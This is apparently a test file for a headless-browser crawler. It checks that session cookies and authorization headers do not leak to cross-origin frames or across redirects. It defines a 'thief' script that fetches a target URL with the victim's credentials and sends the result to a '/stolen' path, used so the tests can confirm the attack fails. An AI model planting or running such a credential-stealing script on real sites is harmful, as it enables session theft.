import { expect, it } from 'vitest';
import { describeBrowser, openRenderer } from '../browser/chromium.ts';
import { enterWorld, openSite } from './setting.ts';
import type { SitePages } from './site.ts';
import { driveRun, makeJob, outcomesOf } from './world.ts';

const env = { TOKEN: 'geheim', SPINNERET_SESSION_KEY: Buffer.alloc(32, 5).toString('base64') };

/** Logs in, and then shows a page with this markup. */
const member = (html: string): SitePages => ({
  '/login': ({ method }) =>
    method === 'POST'
      ? { headers: { 'set-cookie': 'sid=session-of-ann; HttpOnly; Path=/' }, body: '<b class=user></b>' }
      : { body: '<form method=post action=/login><input name=user></form>' },
  '/page': { body: html },
  '/account': { body: 'private' },
  '/app.js': { headers: { 'content-type': 'text/javascript' }, body: 'document.body.append("app")' },
});

const sessionsOf = (origin: string) => ({
  ann: {
    hosts: [new URL(origin).host],
    login: {
      steps: [{ open: `${origin}/login` }, { form: { fields: { user: 'ann' } } }],
      check: { select: '.user' },
    },
  },
});

async function readPage(origin: string, more: Record<string, unknown>) {
  const renderer = openRenderer();
  const world = enterWorld({ maxWaitMs: 5_000 }, env, { makeRenderer: async () => renderer });
  const job = makeJob({
    sources: [{ crawl: { start: `${origin}/page` } }],
    pages: { default: { render: 'browser', fields: { text: { select: 'body' } } } },
    politeness: { gapMs: 0, slowDown: false },
    ...more,
  });
  await world.start('r', job);
  await driveRun(world, 'r', world.newProcess('a'));
  const outcomes = await outcomesOf(world, 'r');
  return {
    text: outcomes.flatMap(({ items }) => items.map(({ fields }) => String(fields['text']))).join(),
    facts: outcomes.flatMap(({ pages }) => pages.filter(({ kind }) => kind === 'page')),
  };
}

const thief = `<script>
  fetch(location.hash.slice(1), { credentials: 'include' }).then((r) => r.text())
    .then((t) => fetch('/stolen?' + t), () => fetch('/nothing'));
</script>`;

describeBrowser('a page in a browser, read in a session', () => {
  it('sends cookies that are HttpOnly with what it asks for, and shows them to no script', async () => {
    const site = await openSite(
      member(
        '<p id=a></p><script>fetch("/account").then(() => { a.textContent = "[" + document.cookie + "]" })</script>',
      ),
    );
    const { text } = await readPage(site.origin, { sessions: sessionsOf(site.origin) });
    expect(text).toContain('[]');
    const account = site.log.find(({ path }) => path === '/account');
    expect(account?.headers.cookie).toBe('sid=session-of-ann');
  });

  it.each([
    ['a session', (origin: string) => ({ sessions: sessionsOf(origin) })],
    ['a key in the headers of the job', () => ({ fetch: { headers: { authorization: '${env:TOKEN}' } } })],
  ])('lets frames of other sites ask for nothing in the name of %s', async (_, more) => {
    const other = await openSite({ '/frame': { body: thief }, '/nothing': {} });
    const pages = member('');
    const site = await openSite(pages);
    pages['/page'] = { body: `<iframe src="${other.origin}/frame#${site.origin}/account"></iframe>` };
    const { facts } = await readPage(site.origin, more(site.origin));
    expect(site.hits('/account')).toBe(0);
    expect(other.log.map(({ path }) => path)).toEqual(['/robots.txt', '/frame', '/nothing']);
    expect(facts).toMatchObject([
      { code: 'RENDERED_PARTLY', message: expect.stringContaining('1 asked for by frames of other sites') },
    ]);
  });

  it('lets frames of other sites ask for nothing in its name by a redirect of their own', async () => {
    const pages = member('');
    const site = await openSite(pages);
    const other = await openSite({
      '/frame': { body: thief },
      '/go': { status: 302, headers: { location: `${site.origin}/account` } },
      '/nothing': {},
    });
    pages['/page'] = { body: `<iframe src="${other.origin}/frame#/go"></iframe>` };
    await readPage(site.origin, { sessions: sessionsOf(site.origin) });
    expect(site.hits('/account')).toBe(0);
    expect(other.log.map(({ path }) => path)).toEqual(['/robots.txt', '/frame', '/go', '/nothing']);
  });

  it('takes what it says to its own origin to no other one, where a redirect leads there', async () => {
    const other = await openSite({ '/there': {} });
    const site = await openSite({
      ...member(`<script>
        document.cookie = 'own=1';
        fetch('/go', { headers: { authorization: 'Bearer of-the-page', 'x-csrf-token': 't', 'x-kind': 'k' } }).catch(() => 0);
        fetch('/go', { method: 'POST', body: 'password' }).catch(() => 0);
      </script>`),
      '/go': { status: 307, headers: { location: `${other.origin}/there` } },
    });
    await readPage(site.origin, { sessions: sessionsOf(site.origin) });
    const there = other.log.filter(({ path }) => path === '/there');
    expect(there.map(({ method }) => method)).toEqual(['GET']);
    expect(there[0]?.headers).toMatchObject({ 'x-kind': 'k' });
    expect(Object.keys(there[0]?.headers ?? {})).not.toEqual(expect.arrayContaining(['authorization']));
    expect(JSON.stringify(there)).not.toMatch(/of-the-page|own=1|sid=|csrf|password/);
  });
});
